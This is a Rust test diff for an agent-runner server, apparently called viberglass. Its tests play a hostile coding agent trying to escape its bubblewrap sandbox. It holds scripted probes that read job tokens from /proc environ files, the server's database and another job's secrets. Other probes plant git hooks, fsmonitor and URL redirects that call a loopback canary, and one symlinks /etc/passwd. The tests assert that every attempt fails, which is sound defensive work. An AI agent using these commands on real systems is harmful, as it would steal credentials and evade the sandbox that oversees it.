@@ -551,7 +551,13 @@ async fn clanker_secrets_reach_the_agent_and_never_the_logs() {
 async fn a_worker_that_dies_before_reporting_fails_fast_with_its_last_log_lines() {
     let dir = tempfile::Builder::new().prefix("viberglass-fake-worker-").tempdir_in("/var/tmp").unwrap();
     let script = dir.path().join("broken-worker");
-    std::fs::write(&script, "#!/bin/sh\necho 'fatal: cannot open the sandbox (demo)' >&2\nexit 3\n").unwrap();
+    // It passes Start's self-check, then dies on its first job.
+    std::fs::write(
+        &script,
+        "#!/bin/sh\nif [ \"$2\" = --self-check ]; then echo 'viberglass worker ok'; exit 0; fi\n\
+         echo 'fatal: cannot open the sandbox (demo)' >&2\nexit 3\n",
+    )
+    .unwrap();
     std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
     let app = fast(TestBackend::Sqlite)
         .env("VIBERGLASS_WORKER_BINARY", script.to_str().unwrap())
@@ -588,4 +594,175 @@ async fn a_failed_runs_checkout_is_kept_only_when_the_setting_asks() {
         }
         assert_eq!(checkout.join("WIP.md").exists(), keep, "keep={keep}");
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn start_without_bubblewrap_says_how_to_fix_it_instead_of_running_unsandboxed() {
+    let app = fast(TestBackend::Sqlite).env("VIBERGLASS_BWRAP", "/nonexistent/bwrap").spawn().await;
+    app.post_json(
+        "/api/v1/clankers",
+        &json!({"shared": true, "name": "Scripted", "agent": "command", "agent_settings": {"command": ["true"]}}),
+    )
+    .await;
+    let started: Value = app.post_json("/api/v1/clankers/scripted/start", &json!({})).await.json().await.unwrap();
+    assert_eq!(started["status"], "failed", "{started}");
+    let message = started["status_message"].as_str().unwrap();
+    assert!(
+        message
+            .contains("bubblewrap is not installed: install the `bubblewrap` package, or set VIBERGLASS_SANDBOX=none"),
+        "{message}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_worker_binary_under_tmp_passes_start_and_runs_in_the_sandbox() {
+    // The sandbox's private /tmp would hide it; Start's self-check proves it is bound in.
+    let dir = tempfile::Builder::new().prefix("viberglass-bin-").tempdir_in("/tmp").unwrap();
+    let binary = dir.path().join("viberglass");
+    std::fs::copy(BINARY, &binary).unwrap();
+    let app = fast(TestBackend::Sqlite)
+        .env("VIBERGLASS_WORKER_BINARY", binary.to_str().unwrap())
+        .env("VIBERGLASS_HEARTBEAT_GRACE_SECS", "30")
+        .spawn()
+        .await;
+    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
+    let setup = setup(&app, &repo.url(), "echo changed >> README.md", 600).await;
+    let clanker: Value = app.get("/api/v1/clankers/scripted").await.json().await.unwrap();
+    assert_eq!(clanker["status"], "active", "{clanker}");
+    assert!(clanker["status_message"].as_str().unwrap().contains("self-check"), "{clanker}");
+    let id = run(&app, &setup, "execution").await;
+    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
+    assert_eq!(done["status"], "completed", "{done}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_agent_finds_no_job_token_in_its_workers_environment_or_workspace() {
+    let app = app(TestBackend::Sqlite, 30).await;
+    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
+    let script = "echo env=$(tr '\\0' '\\n' < /proc/$PPID/environ | grep -c '^VIBERGLASS_JOB_TOKEN='); \
+                  echo file=$(ls -a .. | grep -c token); echo changed >> README.md";
+    let setup = setup(&app, &repo.url(), script, 600).await;
+    let id = run(&app, &setup, "execution").await;
+    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
+    assert_eq!(done["status"], "completed", "{done}");
+    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
+    assert!(events.contains("env=0"), "the worker's environment holds no token: {events}");
+    assert!(events.contains("file=0"), "the token file is gone before the agent starts: {events}");
+}
+
+/// A TCP listener on loopback that counts every connection made to it: what
+/// an agent's planted git configuration or hook would send credentials to.
+struct Canary {
+    port: u16,
+    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl Canary {
+    async fn start() -> Canary {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counted = hits.clone();
+        tokio::spawn(async move {
+            while let Ok((socket, _)) = listener.accept().await {
+                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                drop(socket);
+            }
+        });
+        Canary { port, hits }
+    }
+
+    fn hits(&self) -> usize {
+        self.hits.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+fn bwrap_installed() -> bool {
+    let installed = std::process::Command::new("bwrap").arg("--version").output().is_ok_and(|o| o.status.success());
+    assert!(
+        installed || std::env::var("CI").is_err(),
+        "bubblewrap must be installed under CI (scripts/test installs it)"
+    );
+    installed
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_sandboxed_agent_cannot_read_the_servers_files_other_workspaces_or_its_worker() {
+    if !bwrap_installed() {
+        return eprintln!("note: bubblewrap is not installed; skipping the sandbox escape test");
+    }
+    let app = app(TestBackend::Sqlite, 60).await;
+    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
+    // A canary in the real home of the user running the server.
+    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
+    let canary = std::path::Path::new(&home).join(format!(".viberglass-canary-{}", std::process::id()));
+    std::fs::write(&canary, "CANARY").unwrap();
+    let database = app.data_dir.join("viberglass.db");
+    assert!(database.exists(), "the test server's SQLite database is in its data directory");
+    let workspaces = app.data_dir.join("workspaces");
+    // Another job, still running, with something of its own in its workspace.
+    let setup = setup(&app, &repo.url(), "echo other-jobs-secret > secret.txt; sleep 20", 600).await;
+    let other = run(&app, &setup, "execution").await;
+    wait_for_progress(&app, &other, "running the agent").await;
+    let script = format!(
+        "for f in '{db}' '{canary}' '{data}/secrets.key' /proc/1/environ; do \
+           if cat \"$f\" 2>/dev/null | grep -a -q -e CANARY -e SQLite -e VIBERGLASS_SERVER_URL; then echo \"LEAK:$f\"; fi; done; \
+         ls '{ws}' 2>/dev/null | grep -q '{other}' && echo LEAK:workspace; \
+         cat '{ws}/{other}/repo/secret.txt' 2>/dev/null && echo LEAK:other-secret; \
+         for p in /proc/[0-9]*; do grep -a -q -e VIBERGLASS_SERVER_URL -e VIBERGLASS_JOB_TOKEN -e VIBERGLASS_WORKSPACE \"$p/environ\" 2>/dev/null && echo \"LEAK:environ:$p\"; done; \
+         echo checked >> README.md",
+        db = database.display(),
+        canary = canary.display(),
+        data = app.data_dir.display(),
+        ws = workspaces.display(),
+    );
+    app.patch_json("/api/v1/clankers/scripted", &json!({"agent_settings": {"command": ["sh", "-c", script]}})).await;
+    let probe = run(&app, &setup, "execution").await;
+    let done = wait_for(&app, &probe, &["completed", "failed"], Duration::from_secs(60)).await;
+    let _ = std::fs::remove_file(&canary);
+    assert_eq!(done["status"], "completed", "{done}");
+    let events = app.get(&format!("/api/v1/jobs/{probe}/events?limit=1000")).await.text().await.unwrap();
+    assert!(!events.contains("LEAK"), "the agent reached something it must not: {events}");
+    assert!(!events.contains("other-jobs-secret"), "{events}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn git_after_the_agent_ignores_the_hooks_fsmonitor_and_redirects_it_planted() {
+    let app = app(TestBackend::Sqlite, 60).await;
+    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
+    let canary = Canary::start().await;
+    let port = canary.port;
+    let url = repo.url();
+    let script = format!(
+        "printf '#!/bin/sh\\ngit ls-remote http://127.0.0.1:{port}/hook >/dev/null 2>&1\\n' > .git/hooks/pre-push; \
+         chmod +x .git/hooks/pre-push; cp .git/hooks/pre-push .git/hooks/pre-commit; \
+         git config core.hooksPath .git/hooks; \
+         git config core.fsmonitor 'git ls-remote http://127.0.0.1:{port}/fsmonitor; true'; \
+         git config url.http://127.0.0.1:{port}/.insteadOf '{url}'; \
+         git remote set-url origin http://127.0.0.1:{port}/origin; \
+         echo changed >> README.md"
+    );
+    let setup = setup(&app, &url, &script, 600).await;
+    let id = run(&app, &setup, "execution").await;
+    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
+    assert_eq!(done["status"], "completed", "{done}");
+    assert_eq!(canary.hits(), 0, "nothing the agent planted ran or received the push");
+    // The push went where the project says.
+    let branch = done["branch"].as_str().unwrap();
+    let heads = repo.git(&["branch", "--list", branch]);
+    assert!(heads.contains(branch), "pushed to the project's repository: {heads}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn files_the_agent_links_out_of_the_checkout_are_refused() {
+    let app = app(TestBackend::Sqlite, 60).await;
+    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
+    let setup = setup(&app, &repo.url(), "ln -s /etc/passwd RESEARCH.md", 600).await;
+    let id = run(&app, &setup, "research").await;
+    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
+    assert_eq!(done["status"], "failed", "{done}");
+    assert_eq!(done["failure"]["code"], "document_refused", "{done}");
+    assert!(done["status_message"].as_str().unwrap().contains("link"), "{done}");
+    let document = app.get(&format!("/api/v1/tickets/{}/documents/research", setup.ticket)).await;
+    assert_eq!(document.status(), 404, "nothing of /etc/passwd became the document");
 }
